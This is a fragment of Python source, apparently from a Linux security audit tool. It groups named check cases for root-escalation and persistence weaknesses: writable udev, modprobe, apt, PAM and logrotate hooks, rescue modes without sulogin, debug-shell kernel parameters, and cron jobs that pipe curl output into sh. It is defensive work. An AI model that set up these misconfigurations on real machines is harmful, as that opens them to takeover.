        "binfmt-interpreter-nobody",
    ),
    "hook files (udev, modprobe, apt, logrotate, pam_motd, pam_exec)": (
        "udev-rule-runs-var-tmp", "modprobe-install-nobodys-script", "apt-hook-group-writable",
        "logrotate-postrotate-nobodys-script", "update-motd-group-writable",
        "pam-exec-nobodys-script",
    ),
    "rescue and emergency": ("rescue-without-sulogin", "emergency-sulogin-forced"),
    "kernel command line": (
        "kernel-cmdline-debug-shell", "grub-default-rd-break", "kernel-cmdline-file-init-bash",
        "loader-entry-single",
    ),
    "code fetched from the network and run as root": (
        "cron-curl-pipe-sh", "timer-script-process-substitution",
    ),
}  # fmt: skip
